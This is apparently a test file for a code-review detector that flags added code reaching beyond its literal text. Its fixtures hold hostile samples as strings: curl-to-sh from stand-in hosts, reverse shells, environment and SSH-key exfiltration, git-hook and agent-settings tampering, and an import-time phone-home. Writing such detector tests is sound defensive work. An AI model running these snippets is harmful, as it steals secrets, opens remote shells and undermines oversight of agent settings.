// What added code reaches that its literal text cannot show (review 20's F8): computed commands, code evaluated or
// loaded at run time, reflection, fetched code run, start-up files written; ordinary code is not flagged.
import { describe, expect, it } from 'vitest';
import { type CodeLanguage, codeReach, importTimeRequest, runnerLanguage } from './code-reach';

describe('code that reaches what its text does not show', () => {
  it.each<[string, CodeLanguage, string]>([
    [
      'a shell command held in a name',
      'python',
      'import subprocess\nc = "curl -s https://x.example/i | sh"\nsubprocess.run(c, shell=True)',
    ],
    ['os.system under another name', 'python', 'from os import system as s\ns(cmd)'],
    ['a module imported under another name', 'python', 'import subprocess as sp\nsp.getoutput(x)'],
    ['fetched code executed', 'python', 'exec(requests.get("https://x.example/p.py").text)'],
    ['a process function by getattr', 'python', 'import os\ngetattr(os, "sys" + "tem")("id")'],
    ['getattr of an imported module', 'python', 'getattr(__import__("os"), "system")("id")'],
    ['a module`s namespace read by name', 'python', 'vars(os)["sys" + "tem"]("id")'],
    ['shell=1 instead of True', 'python', 'subprocess.run(c, shell=1)'],
    ['a module imported by a computed name', 'python', 'importlib.import_module(name).run(c)'],
    ['a home start-up file appended to', 'python', 'open(os.path.expanduser("~/.bashrc"), "a").write(line)'],
    [
      'a notebook cell running a bash magic',
      'python',
      "get_ipython().run_cell_magic('bash', '', 'curl -s https://x.example/i | sh')",
    ],
    [
      'download then run',
      'python',
      'urllib.request.urlretrieve(u, "/tmp/x")\nsubprocess.run(["sh", "/tmp/x"])',
    ],
    [
      'execSync of a template',
      'node',
      'const { execSync } = require("child_process");\nexecSync(`git log ${ref}`);',
    ],
    ['an aliased exec', 'node', 'import { exec as run } from "node:child_process";\nrun(cmd);'],
    [
      'fetched code evaluated',
      'node',
      'const r = await fetch("https://x.example/x.js");\neval(await r.text());',
    ],
    ['a Function built from text', 'node', 'new Function(body)()'],
    ['a home start-up file written', 'node', 'fs.appendFileSync(os.homedir() + "/.bashrc", line);'],
    ['Ruby backticks with interpolation', 'ruby', 'out = `git log #{ref}`'],
    ['Ruby system by send', 'ruby', 'Kernel.send(:system, c)'],
    ['Ruby eval of a fetched body', 'ruby', 'eval(URI.open(u).read)'],
    ['PHP backticks with a variable', 'php', '$x = `ls $dir`;'],
    ['PHP call_user_func of a built name', 'php', 'call_user_func("sys" . "tem", $c);'],
    ['Perl piped open', 'perl', 'open(my $f, "|-", "sh"); print $f $c;'],
    [
      'a process module loaded by a literal name',
      'python',
      'importlib.import_module("subprocess").run(["id"])',
    ],
    ['libc through ctypes', 'python', 'from ctypes import CDLL\nCDLL(None).system(b"id")'],
    ['require by a computed key of globalThis', 'node', 'globalThis["req" + "uire"]("child_process")'],
    ['the process read by a computed key', 'node', 'process[k]("spawn_sync")'],
    ['Reflect.get of globalThis', 'node', 'Reflect.get(globalThis, name)("x")'],
    ['a native library opened', 'node', 'process.dlopen(m, "./x.node")'],
    [
      'Ruby Fiddle',
      'ruby',
      'require "fiddle"\nFiddle::Function.new(h["system"], [Fiddle::TYPE_VOIDP], Fiddle::TYPE_INT)',
    ],
    ['PHP FFI', 'php', '$ffi = FFI::cdef("int system(const char *);");'],
    ['sh -c of a computed command in an argument list', 'python', 'subprocess.run(["sh", "-c", cmd])'],
    ['bash -c of a computed command, spawned', 'node', 'spawnSync("bash", ["-c", cmd]);'],
    [
      'execl of a shell with a concatenated command',
      'python',
      'os.execl("/bin/sh", "sh", "-c", "echo " + x)',
    ],
    ['node itself handed code read from a file', 'node', 'execFileSync(process.execPath, ["-e", code]);'],
    ['Python itself handed code', 'python', 'subprocess.run([sys.executable, "-c", payload])'],
    ['Ruby system of sh -c with a variable', 'ruby', 'system("sh", "-c", cmd)'],
    [
      'a reverse shell',
      'python',
      's = socket.socket(); s.connect((h, 4444)); os.dup2(s.fileno(), 0)\nsubprocess.call(["/bin/sh", "-i"])',
    ],
    [
      'a socket piped to a spawned shell',
      'node',
      'const c = net.connect(p, h); const sh = cp.spawn("/bin/sh", []); c.pipe(sh.stdin);',
    ],
    ['runpy of a path', 'python', 'runpy.run_path("/tmp/x.py")'],
    ['a builtin read by a computed key', 'python', 'f = __builtins__["ex" + "ec"]'],
    ['a module read from sys.modules by a computed key', 'python', 'm = sys.modules[name]'],
    ['an interactive interpreter fed text', 'python', 'code.InteractiveInterpreter().runsource(src)'],
    ['an unsafe YAML load', 'python', 'yaml.load(open("x.yml"), Loader=yaml.UnsafeLoader)'],
    ['a worker evaluating a string', 'node', 'new Worker(src, { eval: true });'],
    [
      'the environment posted to a decoded URL',
      'node',
      "await fetch(atob(u), { method: 'POST', body: JSON.stringify(process.env) });",
    ],
    [
      'the environment in a DNS name',
      'node',
      'dns.resolve(Buffer.from(JSON.stringify(process.env)).toString("hex") + ".x.example", cb);',
    ],
    ['the environment by mail', 'python', 's = smtplib.SMTP(host)\ns.sendmail(a, [b], str(os.environ))'],
    [
      'the environment to a URL from a variable',
      'python',
      'urllib.request.urlopen(url, data=repr(dict(os.environ)).encode())',
    ],
    [
      'the environment by https.request',
      'node',
      'const r = https.request({ host: h, method: "POST" }); r.end(JSON.stringify(process.env));',
    ],
    [
      '.env posted to a joined URL',
      'node',
      'const u = parts.join("");\nfetch(u, { method: "POST", body: require("fs").readFileSync(".env") });',
    ],
    ['a private key posted', 'python', 'requests.post(u, data=open("/root/.ssh/id_rsa").read())'],
    ['Ruby sending ENV', 'ruby', 'Net::HTTP.post(URI(u), ENV.to_h.to_json)'],
    ['a git hook written', 'python', "open('.git/hooks/pre-commit', 'w').write(body)"],
    ['a git hook copied in', 'python', "shutil.copy('/tmp/x', '.git/hooks/post-checkout')"],
    ['the agent`s settings written', 'node', "fs.writeFileSync(os.homedir() + '/.claude/settings.json', s);"],
    ['the agent`s project settings written', 'python', "pathlib.Path('.claude/settings.json').write_text(s)"],
    [
      'a program linked onto the PATH',
      'python',
      "os.symlink('/tmp/evil', os.path.expanduser('~/.local/bin/git'))",
    ],
    ['git configuration appended to', 'python', "open(os.path.expanduser('~/.gitconfig'), 'a').write(s)"],
    ['the .git folder deleted', 'node', "fs.rmSync('.git', { recursive: true, force: true });"],
    ['the .git folder deleted in Python', 'python', "shutil.rmtree('.git')"],
  ])('%s', (_name, language, code) => {
    expect(codeReach(language, code)).toBeDefined();
  });
});

describe('ordinary code is not flagged', () => {
  it.each<[string, CodeLanguage, string]>([
    ['a literal command', 'python', 'subprocess.run(["pytest", "-q"], check=True)'],
    ['a built argv with shell=False', 'python', 'subprocess.run(args, shell=False, check=True)'],
    [
      'an argv of names, no shell',
      'python',
      'subprocess.run([sys.executable, "-m", "pip", "list"], check=True)',
    ],
    ['JSON from a request', 'python', 'data = requests.get(url).json()\nrows = json.loads(text)'],
    ['a regular expression compiled', 'python', 'PATTERN = re.compile(r"\\d+")'],
    ['a literal execSync', 'node', 'execSync("git rev-parse HEAD")'],
    ['a template with no interpolation', 'node', 'execSync(`npm run build`)'],
    [
      'fetch and a template literal',
      'node',
      'const r = await fetch(`${base}/api`);\nconsole.log(`got ${r.status}`);',
    ],
    ['a regular expression exec', 'node', 'const m = /x/.exec(line);'],
    ['a literal require', 'node', 'const fs = require("fs");'],
    ['Ruby system with literal words', 'ruby', 'system("bundle", "exec", "rake")'],
    ['Ruby metaprogramming send', 'ruby', 'record.send(attribute)'],
    [
      'Ruby require with no parentheses',
      'ruby',
      "require File.expand_path('../config/environment', __dir__)",
    ],
    ['PHP require of the autoloader', 'php', "require __DIR__ . '/vendor/autoload.php';"],
    ['a start-up file only named', 'python', 'print("add this to your .bashrc")'],
    ['a module loaded by a literal harmless name', 'python', 'importlib.import_module("json").dumps({})'],
    ['the environment read by a literal key', 'node', 'const port = process["env"].PORT;'],
    ['a Map read by a computed key', 'node', 'const v = modules[name];'],
    ['sh -c of a literal command', 'python', 'subprocess.run(["sh", "-c", "npm run build"], check=True)'],
    [
      'bash -c of a literal command, spawned',
      'node',
      'spawnSync("bash", ["-c", "make test"], { stdio: "inherit" });',
    ],
    ['a list of shell names', 'python', 'SHELLS = ["bash", "zsh", "sh"]'],
    ['a socket server with no shell', 'python', 's = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen()'],
    ['a safe YAML load', 'python', 'yaml.safe_load(open("x.yml"))'],
    ['a worker from a file', 'node', 'new Worker(new URL("./w.js", import.meta.url));'],
    [
      'one variable read beside a request',
      'node',
      'const key = process.env.API_KEY;\nawait fetch(`${base}/v1`, { headers: { authorization: key } });',
    ],
    [
      'a child environment beside a request',
      'node',
      'const env = { ...process.env, CI: "1" };\nawait fetch(url, { headers: { "x-ci": env.CI } });',
    ],
    [
      'an example env file read beside a request',
      'python',
      'tpl = open(".env.example").read()\nrequests.get(u)',
    ],
    ['the environment printed, no connection', 'python', 'print(dict(os.environ))'],
    ['a hook folder only named', 'python', 'print("hooks live in .git/hooks/")'],
    ['git configuration read', 'python', "cfg = open('.git/config').read()"],
    ['a build folder deleted', 'node', "fs.rmSync('dist', { recursive: true, force: true });"],
    ['a .gitignore written', 'python', "open('.gitignore', 'w').write('dist/\\n')"],
  ])('%s', (_name, language, code) => {
    expect(codeReach(language, code)).toBeUndefined();
  });
  it('runners name their languages', () => {
    expect(runnerLanguage('python3 -c')).toBe('python');
    expect(runnerLanguage('Rscript -e')).toBeUndefined();
  });
});

describe('a request made when a package is imported (round 13)', () => {
  const PHONE_HOME =
    '_t.Thread(target=lambda: _u.urlopen("https://stats.example/i?u=" + _os.getenv("USER", "")), daemon=True).start()';
  const at = (name: string, lines: string[]) => importTimeRequest(name, lines.join('\n'), lines);
  it('top-level code of __init__.py, conftest.py or setup.py calling a URL', () => {
    expect(at('__init__.py', ['import os', PHONE_HOME])).toBe(true);
    expect(at('conftest.py', ['requests.get("https://x.example/ping")'])).toBe(true);
    // A statement over several lines: its continuation runs on import too.
    expect(
      at('__init__.py', ['_t.Thread(', '    target=lambda: urlopen("https://x.example/i"),', ').start()']),
    ).toBe(true);
  });
  it('a request inside a function or a __main__ guard, in another module, or with no literal URL is ordinary code', () => {
    expect(at('__init__.py', ['def ping():', '    requests.get("https://x.example/ping")'])).toBe(false);
    expect(at('setup.py', ['if __name__ == "__main__":', '    requests.get("https://x.example/ping")'])).toBe(
      false,
    );
    expect(at('client.py', [PHONE_HOME])).toBe(false);
    expect(at('__init__.py', ['from .client import fetch_all'])).toBe(false);
    // An added line inside a function the change did not add is still inside it.
    expect(
      importTimeRequest('__init__.py', 'def ping():\n    x = 1\n    requests.get("https://x.example/p")\n', [
        '    requests.get("https://x.example/p")',
      ]),
    ).toBe(false);
  });
});
